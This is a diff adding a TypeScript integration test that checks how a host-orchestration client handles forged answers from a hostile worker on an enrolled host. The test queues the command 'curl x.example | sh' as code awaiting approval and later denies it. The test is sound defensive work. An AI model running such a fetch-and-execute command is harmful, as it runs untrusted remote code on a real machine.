@@ -4,11 +4,18 @@ import { join } from 'node:path';
 import type { WorkflowFailedError } from '@temporalio/client';
 import type { AgentInput, TurnResult } from '../../../contracts/agents/agent';
 import { fromFailure } from '../../../contracts/errors/failure';
-import { agentWorkflowId, hostNamespace, turnWorkflowId } from '../../../contracts/ids';
+import {
+  agentWorkflowId,
+  hostNamespace,
+  hostWorkflowId,
+  sessionWorkflowId,
+  turnWorkflowId,
+} from '../../../contracts/ids';
 import { WORKFLOWS } from '../../../contracts/messages';
 import { HoldfastClient } from '../../../client/holdfast-client';
 import { EngineOfItsOwn } from '../../helpers/engines/engine-of-its-own';
 import { NamespaceTap } from '../../helpers/engines/namespace-tap';
+import { HostileWorker } from '../../helpers/hostile/hostile-worker';
 import { RemoteHost } from '../../helpers/hosts/remote-host';
 import { call, QUICK_YIELD, scratch, uniqueId } from '../../helpers/engines/temporal';
 import { until } from '../../helpers/until';
@@ -163,5 +170,54 @@ test('a host is enrolled on the queue of the data folder’s agents, which lists
     await until(async () => (await lab.cliInTurn(['host', 'ls', '--json'])).stdout.trim() === '[]');
   } finally {
     await lab.end();
+  }
+}, 60_000);
+
+test('what an enrolled host answers in another shape hides nothing of others, and leads nobody to another host', async () => {
+  const { address } = engine.server();
+  expect(await engine.cliInTurn(['host', 'enrol', 'edge'])).toMatchObject({ code: 0 });
+  const edge = await HoldfastClient.connect({ address, namespace: hostNamespace('edge') }, {});
+  const forged = { approvals: [{}] as unknown, state: { approvals: 5 } as unknown, host: {} as unknown };
+  const worker = new HostileWorker(edge.temporal, 'forged', ({ kind, type, name }) => {
+    if (kind !== 'query') return undefined;
+    return type === 'host' ? forged.host : forged[name as 'approvals' | 'state'];
+  });
+  const started = await Promise.all([
+    edge.temporal.workflow.start('execSession', { workflowId: 'exec/forged/edge/0', taskQueue: 'forged' }),
+    edge.temporal.workflow.start('host', { workflowId: hostWorkflowId('edge'), taskQueue: 'forged' }),
+  ]);
+  const ref = { agent: uniqueId('asks'), host: 'local', session: 0 };
+  const running = engine.client.session(ref).exec({ code: 'curl x.example | sh' });
+  running.catch(() => undefined);
+  try {
+    const own = sessionWorkflowId(ref);
+    const isListed = async (): Promise<boolean> => {
+      const { waiting, unanswered } = await engine.client.approvals.listAnswering();
+      const told = unanswered.map(({ workflowId, error: { code } }) => `${workflowId} ${code}`);
+      return (
+        waiting.some(({ workflowId }) => workflowId === own) &&
+        told.includes('exec/forged/edge/0 answer_invalid')
+      );
+    };
+    // The list of what is open lags.
+    await until(isListed);
+    expect(await engine.client.sessions.list()).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({
+          workflowId: own,
+          waits: expect.objectContaining({ for: 'approval' }) as object,
+        }),
+        expect.objectContaining({ workflowId: 'exec/forged/edge/0', state: null, waits: null }),
+      ]),
+    );
+    const { hosts, unanswered } = await engine.client.hosts.listAnswering();
+    expect([hosts.map(({ host }) => host), unanswered]).toEqual([['far'], ['edge']]);
+    forged.host = { ...(await engine.client.hosts.state('far')), host: 'local' };
+    expect(await engine.client.hosts.choose('edge')).toMatchObject({ host: 'edge' });
+  } finally {
+    await engine.client.approvals.deny(sessionWorkflowId(ref));
+    await Promise.all(started.map((handle) => handle.terminate()));
+    await worker.close();
+    await edge.close();
   }
 }, 60_000);
